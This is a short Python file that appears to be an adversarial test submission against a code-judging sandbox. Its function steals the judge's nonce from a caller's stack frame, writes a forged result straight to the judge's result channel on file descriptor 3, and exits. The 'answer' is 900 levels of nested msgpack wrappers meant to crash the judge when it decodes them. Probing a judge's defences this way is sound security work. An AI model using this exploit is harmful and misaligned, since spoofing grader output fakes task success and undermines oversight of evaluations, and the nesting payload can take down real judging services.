"""Forges a result of tuples that nest so deep that reading them could end the judge."""

import os
import struct
import sys

import msgpack


def forge(payload, **other):
    """Sends a reply under the right nonce, which stands in the frame that called us."""
    nonce = sys._getframe(3).f_locals["nonce"]
    reply = {"status": "value", "payload": payload, "left": b"", "time": 0, "text": "", "length": 0}
    packed = msgpack.packb([nonce, *{**reply, **other}.values()])
    os.write(3, struct.pack("<I", len(packed)) + packed)
    os._exit(0)


def double(n):
    payload = b"\xc0"
    for _ in range(900):
        listed = b"\x91" + payload
        payload = b"\xc9" + struct.pack(">IB", len(listed), 1) + listed
    forge(payload)
